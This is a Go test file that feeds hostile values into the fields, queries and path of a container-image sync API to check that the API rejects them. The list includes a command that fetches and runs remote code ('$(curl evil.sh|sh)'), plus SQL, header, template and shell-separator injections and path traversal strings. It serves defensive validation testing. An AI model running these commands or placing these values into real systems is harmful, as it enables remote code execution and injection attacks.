package httpapi_test

import (
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strings"
)

// hostile are names no field may accept: traversal, look-alikes, control
// characters, injections, overlong values, credentials, metadata hosts.
var hostile = []string{"../../etc/passwd", "..", "a/../b", "%2e%2e/x", "ｍirror.io/a:v1", "mіrror.io/a:v1",
	"r.io/a\x00b:v1", "r.io/a:v1\r\nX-Injected: 1", "'; DROP TABLE tasks;--", "$(curl evil.sh|sh)", "`id`",
	"${HOME}", "{{.Env.SECRET}}", "<script>alert(1)</script>", "\u202eexe.gpj", "\ufeffr.io/a:v1", " r.io/a:v1",
	"r.io//a:v1", "r.io/a:", "r.io/a@", "r.io/a@sha256:xyz", "http://r.io/a:v1", "admin:hunter2@r.io/a:v1",
	"r.io/a:-v1", "r.io/UPPER:v1", strings.Repeat("a", 5000), strings.Repeat("a/", 300) + "b", "\\\\server\\share",
	"C:\\Windows", "/etc/passwd", "r.io/a:v1;rm", "r.io/a:v1|x", "r.io/a:v1&x", "nul\x00", "\x7f", "\t",
	"..%2f..%2f", "r.io/a:v1#frag", "r.io/a:v1?q=1", "*", "**", "r.io/*:v1"}

// fields are where a hostile value goes: a request template with a
// placeholder X, valid everywhere else.
var fields = []string{
	`{"source":{"image":X},"target":{"image":"dst.io/a"}}`,
	`{"source":{"image":"src.io/a:v1"},"target":{"image":X}}`,
	`{"source":{"engine":"swr","region":"cn-north-4","namespace":"ns","repository":"app","tag":X},"target":{"engine":"swr","region":"cn-east-3","namespace":"ns","repository":"app"}}`,
	`{"source":{"engine":"swr","region":"cn-north-4","namespace":X,"repository":"app","tag":"v1"},"target":{"engine":"swr","region":"cn-east-3","namespace":"ns","repository":"app"}}`,
	`{"source":{"engine":"acr","region":X,"instance":"cri-a","namespace":"ns","repository":"app","tag":"v1"},"target":{"engine":"acr","region":"cn-beijing","instance":"cri-b","namespace":"ns","repository":"app"}}`,
	`{"source":{"image":"src.io/a:v1"},"target":{"image":"dst.io/a"},"engine":X}`,
	`{"source":{"image":"src.io/a:v1"},"target":{"image":"dst.io/a"},"after":[X]}`,
	`{"source":{"image":"src.io/a:v1"},"target":{"engine":"hss","project":X,"all":true}}`,
}

// wrongTypes replace a string field's value.
var wrongTypes = []string{`1`, `true`, `[]`, `{}`, `-0.5e309`, `["a"]`, `{"image":"r.io/a:v1"}`}

func generatedCases() []badCase {
	var out []badCase
	for fi, tmpl := range fields {
		for _, h := range hostile {
			v, _ := json.Marshal(h)
			out = append(out, badCase{"field" + string(rune('0'+fi)) + " " + h, "POST", "/v1/syncs", strings.Replace(tmpl, "X", string(v), 1)})
		}
		for _, w := range wrongTypes {
			out = append(out, badCase{"field" + string(rune('0'+fi)) + " type " + w, "POST", "/v1/syncs", strings.Replace(tmpl, "X", w, 1)})
		}
	}
	valid := `{"source":{"image":"src.io/a:v1"},"target":{"image":"dst.io/a"}}`
	for i := 1; i < len(valid); i += 3 { // every truncation is malformed
		out = append(out, badCase{"truncated syncs", "POST", "/v1/syncs", valid[:i]})
	}
	for _, s := range sampleBodies() {
		for _, cut := range []int{1, len(s) / 3, len(s) / 2, len(s) - 2} {
			out = append(out, badCase{"truncated event", "POST", "/v1/events", s[:cut]})
		}
	}
	for _, q := range []string{"page=-1", "page=0", "pageSize=1000", "pageSize=x", "engine=..%2F", "engine=ftp",
		"status=%00", "bogus=1", "page=99999999999999999999", "engine=acr"} {
		out = append(out, badCase{"query " + q, "GET", "/v1/syncs?" + q, ""})
	}
	for _, h := range hostile[:20] {
		out = append(out, badCase{"task id " + h, "GET", "/v1/syncs/" + url.PathEscape(h), ""})
		out = append(out, badCase{"dryRun " + h, "POST", "/v1/events?dryRun=" + url.QueryEscape(h), `{}`})
		j, _ := json.Marshal(h)
		out = append(out, badCase{"tick " + h, "POST", "/v1/ticks", `{"jobs":[` + string(j) + `]}`})
	}
	return out
}

func sampleBodies() []string {
	files, _ := filepath.Glob("../../events/testdata/*.json")
	var out []string
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil && len(b) > 8 {
			out = append(out, string(b))
		}
	}
	return out
}
